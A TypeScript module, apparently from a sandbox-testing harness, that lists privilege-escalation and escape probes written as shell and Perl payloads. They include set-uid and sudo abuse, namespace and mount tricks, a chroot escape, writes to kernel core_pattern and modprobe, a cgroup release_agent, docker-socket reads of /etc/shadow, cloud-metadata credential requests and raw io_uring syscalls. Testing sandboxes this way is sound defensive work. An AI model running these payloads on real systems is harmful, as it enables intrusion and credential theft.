/**
 * Ways to more power: programs with the set-uid bit, namespaces of its own, the kernel's settings, control groups, the
 * service's port, and system calls that do another's work.
 */

import type { Attack } from '../attack.ts'
import { perl } from '../attack.ts'
import { shell } from '../scripts.ts'
import { foundLines } from './start.ts'

/** Inside a namespace where it is root: looks for secrets in every way. */
const asRoot = `cat $(printf %s "$HOSTILE_LOOT" | tr : " ") 2>/dev/null`

export const escapeAttacks: readonly Attack[] = [
  {
    name: 'set-uid-programs',
    about: 'runs every program of the machine with a set-uid or set-gid bit or file capabilities',
    reaches: 'root',
    payload: (scene) =>
      shell(
        scene,
        `own=$(id -u); for program in $(timeout 8 find /usr/bin /usr/sbin /usr/libexec /usr/lib/openssh /usr/lib/dbus-1.0 /usr/lib/polkit-1 /opt -maxdepth 2 -perm /6000 -type f 2>/dev/null | sort -u | head -40); do
           for word in '-c id' '-n id -u'; do timeout 0.5 "$program" $word </dev/null 2>&1 | grep -o 'uid=0[^ ]*' | sed "s#^#FOUND set-uid $program #"; done
         done
         for user in root pilotage; do timeout 2 su -c 'cat $(printf %s "$HOSTILE_LOOT" | tr : " ")' $user </dev/null 2>/dev/null | canaries; done
         timeout 2 sudo -n cat $(secrets) 2>/dev/null | canaries; timeout 2 pkexec cat $(secrets) 2>/dev/null | canaries
         timeout 2 mount -t tmpfs none /mnt 2>/dev/null && echo "FOUND mounted /mnt"; timeout 2 newuidmap $$ 0 0 1 2>/dev/null && echo "FOUND mapped root"; true`,
        { wallMs: 30_000 },
      ),
    judge: foundLines,
  },
  {
    name: 'become-another',
    about: 'changes to root, to the pilot and to other payloads’ accounts',
    reaches: 'root, the pilot, other payloads',
    payload: (scene) =>
      perl(`
        use POSIX (); my $own = $<; my $pilot = (stat "${scene.credentialDir}")[4] // 0;
        open(my $m, "<", "/proc/self/uid_map"); my $all = <$m> =~ /^\\s*0\\s+0\\s+4294967295/;
        exit unless $all;
        for my $uid (0, $pilot, $own + 1, $own - 1, 1, 65534) { next if $uid == $own; if (syscall(117, $uid, $uid, $uid) == 0) { print "FOUND another-account $uid\\n"; last } }
        print "FOUND another-group\\n" if syscall(119, 0, 0, 0) == 0; print "FOUND root-folder\\n" if chroot "/tmp";
      `),
    needs: ['x64'],
    judge: foundLines,
  },
  {
    name: 'own-user-namespace',
    about: 'becomes root in a user namespace of its own and reads secrets there',
    reaches: 'files that only root may read',
    payload: (scene) =>
      shell(
        scene,
        `timeout 5 unshare -Ur /bin/sh -c '${asRoot}' | canaries; timeout 5 unshare -Urmpf --mount-proc /bin/sh -c '${asRoot}' | canaries; timeout 5 bwrap --dev-bind / / /bin/sh -c '${asRoot}' | canaries`,
      ),
  },
  {
    name: 'mounts',
    about: 'mounts over files and binds folders in namespaces of its own, then runs set-uid programs',
    reaches: 'files of others through a mount of its own',
    payload: (scene) =>
      shell(
        scene,
        `timeout 8 unshare -Urm /bin/sh -c 'mkdir -p m; mount --rbind / m 2>/dev/null; for f in $(printf %s "$HOSTILE_LOOT" | tr : " "); do cat "m$f"; done; umount -l ${scene.workDir}; umount -l /tmp; umount -l /proc; umount -l /; for f in $(printf %s "$HOSTILE_LOOT" | tr : " "); do cat "$f"; done; mount -t proc proc m; cat m/1/environ m/*/environ; mount -t overlay overlay -o lowerdir=${scene.credentialDir},upperdir=m,workdir=m m; cat m/credential; mount -t tmpfs t m; mount --move m ${scene.workDir}' 2>/dev/null | canaries`,
      ),
  },
  {
    name: 'unmount-the-sandbox',
    about: 'takes the mounts of its sandbox away, to see what is below them',
    reaches: 'what the sandbox covers',
    payload: (scene) =>
      shell(
        scene,
        `timeout 8 unshare -Urm /bin/sh -c 'for at in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount "$at" 2>/dev/null || umount -l "$at" 2>/dev/null; done; cd /; ${asRoot}; pivot_root . tmp; chroot /oldroot /bin/sh -c "ls"; ls /oldroot /.old /newroot' 2>/dev/null | canaries
         for at in /oldroot /newroot /.oldroot; do [ -e "$at/etc" ] && echo "FOUND old-root $at"; done; true`,
      ),
    judge: foundLines,
  },
  {
    name: 'chroot-escape',
    about: 'leaves its root by a descriptor of a folder that is outside of a second root',
    reaches: 'the machine’s root',
    payload: (scene) =>
      shell(
        scene,
        `timeout 5 unshare -Ur /usr/bin/perl -e 'mkdir "c"; opendir(my $d, "."); chroot "c" or exit; for (1..60) { chdir ".." } chroot "."; for my $f (split /:/, $ENV{HOSTILE_LOOT}) { open(my $h, "<", $f) or next; print <$h>, "\\n" }' 2>/dev/null | canaries`,
      ),
  },
  {
    name: 'kernel-settings',
    about: 'writes settings of the kernel: the handler of core dumps, of modules, of requests, of the loader of formats',
    reaches: 'root, by a handler that the kernel runs',
    payload: (scene) =>
      shell(
        scene,
        `for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hotplug /sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register /proc/sysrq-trigger /proc/sys/kernel/hostname /proc/sys/net/ipv4/ip_forward /proc/sys/vm/drop_caches /sys/power/state /proc/sys/kernel/ns_last_pid /proc/self/loginuid /sys/kernel/security/apparmor/.load; do
           before=$(cat "$f" 2>/dev/null); (printf '%s' "$before" >"$f") 2>/dev/null && [ -n "$before" ] && echo "FOUND setting $f"
         done; true`,
      ),
    judge: (scene, outcome) =>
      foundLines(scene, outcome).filter(({ evidence }) => !/hostname|loginuid|ns_last_pid|ip_forward/.test(evidence)),
  },
  {
    name: 'control-groups',
    about: 'moves itself and others between control groups, and sets a release agent',
    reaches: 'resources of others, or root by the agent',
    payload: (scene) =>
      shell(
        scene,
        `for g in $(find /sys/fs/cgroup -name cgroup.procs 2>/dev/null | head -200); do (echo $$ >"$g") 2>/dev/null && echo "FOUND control-group $g"; (echo ${scene.pilotPid} >"$g") 2>/dev/null && echo "FOUND control-group-of-pilot $g"; done
         for f in $(find /sys/fs/cgroup \\( -name release_agent -o -name memory.max -o -name pids.max -o -name cgroup.kill -o -name cgroup.freeze \\) 2>/dev/null | head -200); do [ -w "$f" ] && echo "FOUND control-file $f"; done
         timeout 5 unshare -UrmC /bin/sh -c 'mkdir -p g; mount -t cgroup -o memory none g && echo 1 >g/notify_on_release && echo /tmp/x >g/release_agent && echo "FOUND release-agent g"; mount -t cgroup2 none g && ls g/cgroup.procs && echo $$ >g/../cgroup.procs' 2>/dev/null; true`,
      ),
    judge: foundLines,
  },
  {
    name: 'buses',
    about: 'talks to the buses and sockets of the system',
    reaches: 'root, by a service that does what it is asked',
    payload: (scene) =>
      shell(
        scene,
        `for socket in /run/systemd/private /run/dbus/system_bus_socket /run/docker.sock /var/run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /run/snapd.socket /run/systemd/notify /run/systemd/journal/stdout /run/udev/control /run/acpid.socket; do
           [ -S "$socket" ] && [ -w "$socket" ] && echo "open: $socket"
         done; timeout 3 systemd-run --uid=0 --pipe cat $(secrets) 2>/dev/null | canaries; timeout 3 systemctl stop pilotage-pilot 2>/dev/null && echo "FOUND stopped the pilot"; timeout 3 loginctl terminate-user root 2>/dev/null && echo "FOUND terminated sessions"
         timeout 3 docker run -v /:/h debian cat /h/etc/shadow 2>/dev/null | grep -q root && echo "FOUND docker"; timeout 3 journalctl -n 1000 --no-pager 2>/dev/null | canaries; true`,
      ),
    judge: foundLines,
  },
  {
    name: 'port-of-the-service',
    about: 'speaks to every port that listens on this machine',
    reaches: 'the service or the agents, without a credential',
    payload: (scene) =>
      perl(
        `
        use IO::Socket::INET; my %ports;
        for my $f ("/proc/net/tcp", "/proc/net/tcp6") { open(my $h, "<", $f) or next; while (<$h>) { $ports{hex $1}++ if /^\\s*\\d+: [0-9A-F]+:([0-9A-F]{4}) [0-9A-F]+:0000 0A/ } }
        delete $ports{${scene.port}};
        for my $port ((sort { $a <=> $b } keys %ports)[0..30]) { next unless $port;
          my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:$port", Timeout => 1) or next;
          eval { local $SIG{ALRM} = sub { die }; alarm 1; print $s "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"; sysread($s, my $t, 4000); print join(" ", $t =~ /cn4ry-[a-z-]+[.][0-9a-z]{16}/g), "\\n"; alarm 0 };
        }
      `,
        { wallMs: 40_000 },
      ),
  },
  {
    name: 'metadata-address',
    about: 'asks the cloud for the user data of its machine',
    reaches: 'the activation key',
    payload: (scene) =>
      shell(
        scene,
        `for path in latest/user-data openstack/latest/user_data latest/meta-data/iam/security-credentials/; do
           timeout 2 /usr/bin/perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "169.254.169.254:80", Timeout => 1) or exit; print $s "GET /$ARGV[0] HTTP/1.0\\r\\n\\r\\n"; local $/; $t = <$s>; print $t; print "FOUND metadata $ARGV[0]\\n" if $t =~ /^HTTP\\S+ 200/' $path
         done; true`,
      ),
    judge: foundLines,
  },
  {
    name: 'io-uring',
    about: 'opens a secret by a ring of the kernel, whose threads do it',
    reaches: 'a file that its own account may not open',
    needs: ['x64'],
    payload: (scene) =>
      perl(`
        use POSIX (); my $p = "\\0" x 120; my $ring = syscall(425, 8, $p); if ($ring < 0) { print "refused\\n"; exit }
        my @v = unpack("L*", $p); my ($sqo, $cqo) = (10, 20);
        my ($tail, $mask, $array) = @v[$sqo + 1, $sqo + 2, $sqo + 6]; my ($chead, $ctail, $cmask, $cqes) = @v[$cqo, $cqo + 1, $cqo + 2, $cqo + 5];
        my $sq = syscall(9, 0, 4096, 3, 1, $ring, 0); my $sqes = syscall(9, 0, 4096, 3, 1, $ring, 0x10000000);
        my $path = "${scene.secretFiles.credential}\\0"; my $at = unpack("Q", pack("p", $path));
        # IORING_OP_OPENAT is 18; AT_FDCWD as 32 bits.
        my $sqe = pack("CCSlQQLLQ", 18, 0, 0, -100, 0, $at, 0, 0, 7) . "\\0" x 24;
        open(my $mem, "+<:raw", "/proc/self/mem") or exit;
        my $put = sub { sysseek($mem, $_[0], 0); syswrite($mem, $_[1]) }; my $get = sub { sysseek($mem, $_[0], 0); sysread($mem, my $b, $_[1]); $b };
        $put->($sqes, $sqe); $put->($sq + $array, pack("L", 0)); $put->($sq + $tail, pack("L", 1));
        syscall(426, $ring, 1, 1, 1, 0, 0); my ($user, $res) = unpack("Ql", $get->($sq + $cqes, 16)); print "result $res\\n";
        if ($res > 2) { open(my $f, "<&=", $res) or exit; print <$f> }
      `),
  },
  {
    name: 'kernel-interfaces',
    about: 'asks for interfaces of the kernel that only root may have',
    reaches: 'the kernel',
    needs: ['x64'],
    payload: () =>
      perl(`
        open(my $m, "<", "/proc/self/uid_map"); my $all = <$m> =~ /^\\s*0\\s+0\\s+4294967295/;
        my $zero = "\\0" x 200;
        my %try = (bpf => [321, 0, pack("LLLL", 1, 4, 8, 1) . $zero, 72], module => [175, $zero, 10, $zero], kexec => [246, 0, 0, 0, 0],
          iopl => [172, 3], acct => [163, "/tmp"], syslog => [103, 3, $zero, 100], mknod => [133, "/tmp/hostile-dev", 0020666, 0x103], hostname => [170, "hostile", 7]);
        for (sort keys %try) { my ($n, @a) = @{$try{$_}}; my $r = syscall($n, @a); print "FOUND interface $_\\n" if $r >= 0 && ($all || !/hostname|bpf/) }
      `),
    judge: foundLines,
  },
]
